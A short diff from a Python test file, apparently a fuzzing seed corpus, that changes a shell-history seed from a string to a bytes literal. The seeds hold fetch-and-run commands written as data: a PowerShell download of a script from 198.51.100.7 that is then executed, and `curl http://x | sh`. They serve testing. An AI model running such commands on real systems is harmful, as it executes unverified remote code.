@@ -93,7 +93,7 @@ def _task_seeds() -> list[bytes]:
 
 def _history_seeds() -> list[bytes]:
     return [b"whoami\r\nInvoke-WebRequest http://198.51.100.7/a.ps1 -OutFile a.ps1\r\n. .\\a.ps1 `\r\n  -x\r\n",
-            ": 1700000000:0;ls -la\n: 1700000001:0;curl http://x | sh\n"]
+            b": 1700000000:0;ls -la\n: 1700000001:0;curl http://x | sh\n"]
 
 
 def _bundle_seeds() -> list[bytes]:
